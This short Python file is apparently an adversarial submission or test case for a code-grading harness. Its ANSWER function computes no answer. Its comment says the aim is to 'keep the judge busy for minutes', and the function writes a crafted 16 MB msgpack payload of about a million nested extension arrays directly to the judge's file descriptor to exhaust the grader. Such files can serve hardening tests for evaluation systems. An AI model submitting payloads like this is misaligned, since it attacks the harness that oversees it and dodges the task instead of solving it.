# tries to: keep the judge busy for minutes with a million arrays of nothing
import os
import struct

import msgspec

ONE = msgspec.msgpack.encode(msgspec.msgpack.Ext(1, msgspec.msgpack.encode(["array", "bool", [0], b""])))
COUNT = (16 * 2**20 - 5) // len(ONE)


def ANSWER(*args, **kwargs):
    value = b"\xdd" + COUNT.to_bytes(4, "big") + ONE * COUNT
    data = msgspec.msgpack.encode({"type": "Returned", "value": value, "printed": ""})
    data = struct.pack(">I", len(data)) + data
    while data:
        data = data[os.write(3, data) :]
